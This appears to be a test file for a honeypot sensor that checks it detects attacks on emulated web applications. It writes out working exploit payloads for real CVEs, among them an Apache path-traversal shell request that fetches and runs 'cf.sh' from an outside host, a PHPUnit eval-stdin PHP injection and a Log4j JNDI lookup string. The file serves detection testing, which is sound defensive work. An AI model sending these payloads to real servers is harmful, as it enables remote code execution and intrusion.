/** Exploited applications as scanners and worms meet them: curl looks around, exploits, and comes back. */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { after, before, describe, it } from 'node:test';
import { promisify } from 'node:util';
import { type Sensor, startSensor, without } from './sensor.ts';

describe('exploited web applications', { skip: without('curl') }, () => {
  let sensor: Sensor;
  let base: string;

  before(async () => {
    sensor = await startSensor(['http']);
    base = `http://127.0.0.1:${sensor.port('http')}`;
  });
  after(() => sensor[Symbol.asyncDispose]());

  async function curl(path: string, ...more: readonly string[]): Promise<string> {
    const flags = ['-s', '-i', '--max-time', '20', '--path-as-is', '--globoff'];
    return (await promisify(execFile)('curl', [...flags, ...more, `${base}${path}`])).stdout;
  }

  it('show one of them, and take looking around for noise', async () => {
    assert.match(await curl('/'), /^HTTP\/1\.1 [23]\d\d /);
    const told = await sensor.event('http.request', ({ data }) => data!.target === '/');
    assert.equal(told.severity, 'info');
    assert.equal(told.data!.method, 'GET');
  });

  it('run what a path traversal brings, and tell where it would have loaded from', async () => {
    const answer = await curl(
      '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
      '-d',
      'echo Content-Type: text/plain; echo; curl -s http://198.51.100.7/cf.sh | bash; id -un; echo left > /tmp/left',
    );
    assert.match(answer, /^HTTP\/1\.1 200 OK\r\nDate: .*\r\nServer: Apache\/2\.4/);
    assert.match(answer, /www-data\n/);
    const told = await sensor.event('http.exploit');
    assert.deepEqual(told.norm.urls, ['http://198.51.100.7/cf.sh']);
    assert.match(String(told.data!.exploit), /CVE-2021-4(?:1773|2013)/);
    assert.match(String(told.data!.output), /www-data/);
    assert.ok(told.attack.includes('T1190'), String(told.attack));
    assert.deepEqual(
      (told.data!.artefacts as { name: string }[]).map((one) => one.name),
      ['/tmp/left'],
    );
  });

  it('still have what was left when the same visitor looks for it', async () => {
    const answer = await curl(
      '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      '-d',
      "<?php system('cat /tmp/left');",
    );
    assert.match(answer, /\r\n\r\nleft\n?$/);
  });

  it('tell of lookups of Log4j', async () => {
    await curl('/', '-A', '${jndi:ldap://192.0.2.66:1389/a}');
    const told = await sensor.event('http.exploit', ({ data }) => data!.exploit === 'CVE-2021-44228');
    assert.deepEqual(told.norm.urls, ['ldap://192.0.2.66:1389/a']);
    assert.deepEqual(told.attack, ['T1190']);
  });
});
